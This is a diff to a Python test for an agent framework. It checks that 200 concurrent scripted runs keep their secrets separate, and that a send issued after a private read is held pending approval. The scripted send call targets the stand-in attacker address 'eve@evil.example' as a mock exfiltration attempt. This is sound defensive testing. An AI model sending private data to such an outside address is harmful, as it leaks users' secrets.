@@ -6,7 +6,7 @@ import asyncio
 
 from toolkeel import Agent, tool
 from toolkeel.context import ToolContext
-from toolkeel.effects import reads
+from toolkeel.effects import acts, reads
 from toolkeel.messages import ToolMessage
 from toolkeel.testing.scripted import Scripted, call
 
@@ -21,15 +21,34 @@ async def mine(context: ToolContext[str]) -> str:
     return context.deps
 
 
+@tool(effects=acts("to"))
+async def send(to: str, context: ToolContext[str]) -> str:
+    """Send a mail."""
+    await asyncio.sleep(0)
+    return f"sent by {context.deps}"
+
+
 def test_two_hundred_runs_at_once_keep_their_own_secrets_and_labels() -> None:
+    """Of each three one only sends, one reads first and must ask, one is cancelled in the middle."""
+
     async def one(number: int) -> None:
         secret = f"secret-{number}"
-        reader = number % 2
-        turns = [[call("mine", {}), call("mine", {})], "done"] if reader else ["done"]
-        agent = Agent(Scripted(turns), [mine])  # type: ignore[arg-type]
-        result = await agent.run("go", deps=secret)
-        told = {m.text for m in result.messages if isinstance(m, ToolMessage)}
-        assert told == ({secret} if reader else set())
+        sends = [call("send", {"to": "eve@evil.example"})]
+        turns = [sends, "done"] if number % 3 == 0 else [[call("mine", {})] * 2, sends, "done"]
+        handle = Agent(Scripted(turns), [mine, send]).start("go", deps=secret)  # type: ignore[arg-type]
+        if number % 3 == 2:
+            for _ in range(number % 23):
+                await asyncio.sleep(0)
+            handle.cancel("enough")
+        result = await handle
+        told = {m.text for m in result.messages if isinstance(m, ToolMessage) and not m.failed}
+        labels = {label for ticket in result.pending for label in ticket.labels}
+        if number % 3 == 0:
+            assert (told, result.pending) == ({f"sent by {secret}"}, ())
+        else:
+            assert told <= {secret} and labels <= {"private: mine"}
+        if number % 3 == 1:
+            assert result.reason == "waiting" and labels == {"private: mine"}
 
     async def all_of_them() -> None:
         await asyncio.gather(*(one(number) for number in range(200)))
